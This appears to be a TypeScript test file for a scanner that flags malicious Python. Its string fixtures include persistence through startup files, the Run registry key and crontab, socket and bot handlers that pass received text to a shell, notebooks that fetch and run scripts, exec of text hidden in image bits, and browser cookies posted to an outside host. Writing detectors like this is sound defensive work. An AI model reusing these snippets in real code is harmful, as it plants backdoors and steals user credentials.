import { describe, expect, it } from 'vitest';
import { pythonCode, unfollowedPython } from '../../../utils/inspect/python/python-code.ts';
import { projectOf, seenBy } from '../sightings-of.ts';

const kindsIn = (program: string | Record<string, string>) =>
  [...new Set(seenBy(pythonCode, typeof program === 'string' ? { 'a.py': program } : program).map((seen) => seen.split(' ')[0]))].filter((kind) => kind !== 'starts-process');
const home = 'import os\n';
const notebook = (...cells: string[]) => JSON.stringify({ cells: cells.map((source) => ({ cell_type: 'code', source })) });

describe('what stays on the computer', () => {
  it.each([
    ['a file for each start of Python', `${home}import site\nwith open(os.path.join(site.getsitepackages()[0], 'quotes.pth'), 'w') as f:\n    f.write('import quotes_start\\n')\n`],
    ['a module that Python loads by itself', `import pathlib, site\n(pathlib.Path(site.getusersitepackages()) / 'usercustomize.py').write_text('import quotes_start')\n`],
    ['a line in each of several shells', `from pathlib import Path\nfor name in ('.bashrc', '.zshrc'):\n    rc = Path.home() / name\n    with open(rc, 'a') as f:\n        f.write('python3 ~/.cache/sync.py &\\n')\n`],
    ['a table of times', `import subprocess\nsubprocess.run(['crontab', '-'], input='x', text=True)\n`],
    ['a key of the registry', `import winreg\nkey = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')\nwinreg.SetValueEx(key, 'Quotes', 0, 1, 'quotes.exe')\n`],
    ['a folder of Windows', `${home}import shutil\nshutil.copy('a.vbs', os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup', 'a.vbs'))\n`],
  ])('sees %s', (_, program) => expect(kindsIn(program)).toContain('stays-on-computer'));

  it.each([
    ['a search path', `${home}with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('export PATH="$HOME/.local/bin:$PATH"\\n')\n`],
    ['a file of folders', `${home}import site\nwith open(os.path.join(site.getsitepackages()[0], 'quotes.pth'), 'w') as f:\n    f.write('/srv/quotes\\n')\n`],
    ['a key that is read', `import winreg\nkey = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')\nprint(winreg.QueryValueEx(key, 'Quotes'))\n`],
    ['a table of times that is shown', `import subprocess\nprint(subprocess.run(['crontab', '-l'], capture_output=True).stdout)\n`],
  ])('is quiet about %s', (_, program) => expect(kindsIn(program)).toEqual([]));
});

describe('compiled code without its source', () => {
  const loader = `from importlib.machinery import SourcelessFileLoader\nSourcelessFileLoader('engine', 'data/engine.pyc').load_module()\n`;

  it('is seen where it is loaded by hand', () => expect(kindsIn({ 'a.py': loader, 'data/engine.pyc': 'x' })).toEqual(['loads-compiled-code']));
  it('is seen where it is imported', () => expect(kindsIn({ 'a.py': 'import helper\n', 'lib/helper.pyc': 'x' })).toEqual(['loads-compiled-code']));
  it('is none beside its source', () => expect(kindsIn({ 'a.py': loader, 'data/engine.pyc': 'x', 'data/engine.py': '' })).toEqual([]));
  it('is none where Python keeps it', () => expect(kindsIn({ 'a.py': 'import helper\nexec("1")\n', 'helper.py': '', '__pycache__/helper.cpython-311.pyc': 'x' })).toEqual([]));
});

describe('messages of a connection', () => {
  it.each([
    ['a stream', `import asyncio\nasync def go():\n    reader, writer = await asyncio.open_connection('relay.example', 1)\n    line = await reader.readline()\n    await asyncio.create_subprocess_shell(line.decode().strip())\n`],
    ['messages one by one', `import websockets\nasync def go():\n    async with websockets.connect('wss://relay.example') as ws:\n        async for message in ws:\n            exec(message)\n`],
    ['a table of functions', `import aiohttp, json, os\nclass S:\n    def __init__(self):\n        self.table = {'a': self.run}\n    def run(self, body):\n        os.system(body['line'])\n    async def go(self, http: aiohttp.ClientSession):\n        async with aiohttp.ClientSession() as http:\n            async with http.ws_connect('wss://relay.example') as ws:\n                async for m in ws:\n                    self.table.get('a')(json.loads(m.data))\n`],
    ['a protocol', `import asyncio, subprocess\nclass P(asyncio.Protocol):\n    def data_received(self, data):\n        subprocess.run(data.decode(), shell=True)\n`],
    ['a bot', `import subprocess\nfrom telegram.ext import MessageHandler, filters\nasync def handle(update, context):\n    subprocess.getoutput(update.message.text)\nMessageHandler(filters.TEXT, handle)\n`],
  ])('are followed to a shell from %s', (_, program) => expect(kindsIn(program)).toEqual(['runs-fetched-text']));

  it('are ordinary where they are shown', () =>
    expect(kindsIn(`import asyncio, subprocess\nclass P(asyncio.Protocol):\n    def data_received(self, data):\n        print(data.decode())\n        subprocess.run(['git', 'status'])\n`)).toEqual([]));
});

describe('notebooks', () => {
  it.each([
    ['fetched, made a program and started', notebook('!curl -sO https://a.example/prep.sh\n!chmod +x prep.sh\n!./prep.sh')],
    ['run by a word of the notebook', notebook('import requests\nopen("prep.py", "w").write(requests.get("https://a.example/p").text)', '%run prep.py')],
  ])('tell of a file that is %s', (_, text) => expect(kindsIn({ 'a.ipynb': text })).toEqual(['starts-fetched-file']));

  it('are quiet about an installer of a tool', () => expect(kindsIn({ 'a.ipynb': notebook('!wget https://repo.anaconda.com/miniconda/Miniconda3.sh\n!bash Miniconda3.sh') })).toEqual([]));
});

describe('numbers and cookies', () => {
  it('sees letters that are put together from bits', () =>
    expect(kindsIn(`from PIL import Image\nbits = ''.join(str(r & 1) for r, g, b in Image.open('logo.png').getdata())\nout = bytearray()\nfor i in range(9):\n    out.append(int(bits[i:i + 8], 2))\nexec(out.decode())\n`)).toContain('runs-decoded-text'));
  it('sees cookies of the browser that are sent', () => expect(kindsIn(`import browser_cookie3, requests\nrequests.post('https://a.example', json=[c.value for c in browser_cookie3.chrome()])\n`)).toContain('sends-files'));
  it('takes cookies that a request carries as such', () => expect(kindsIn(`import browser_cookie3, requests\nrequests.get('https://a.example', cookies=browser_cookie3.chrome())\n`)).not.toContain('sends-files'));
  it('takes a mark of two bytes for no hidden text', () => expect(kindsIn(`MAGIC = (3495).to_bytes(2, 'little')\nexec(MAGIC)\n`)).toEqual([]));
  it('names programs that are too long to be followed', () => expect(unfollowedPython(projectOf({ 'a.py': 'a = 1\n'.repeat(80_000), 'b.py': 'b = 1\n' }))).toEqual([{ path: 'a.py', reason: 'not followed' }]));
});
